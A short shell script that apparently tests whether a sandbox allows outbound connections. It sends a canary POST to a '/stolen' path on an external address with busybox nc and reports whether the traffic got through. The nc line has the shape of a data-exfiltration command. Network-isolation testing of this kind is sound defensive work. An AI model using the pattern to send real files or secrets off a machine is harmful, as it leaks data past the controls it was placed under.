#!/bin/sh
# Connects to a machine outside. probe [needed]: the service needs a network with a way out.
answer=$(printf 'POST /stolen HTTP/1.0\r\nContent-Length: 6\r\n\r\ncanary' | busybox nc -w 3 198.51.100.2 9009 2>&1 | head -n 1 | tr -d '\r')
echo "the machine outside answers: $answer"
case $answer in
HTTP/1.*)
	if [ "${1:-}" = needed ]; then
		echo 'the plan needs this way out for the port that it publishes'
		echo 'OUTCOME partly'
	else
		echo 'OUTCOME through'
	fi
	;;
*) echo 'OUTCOME stopped' ;;
esac
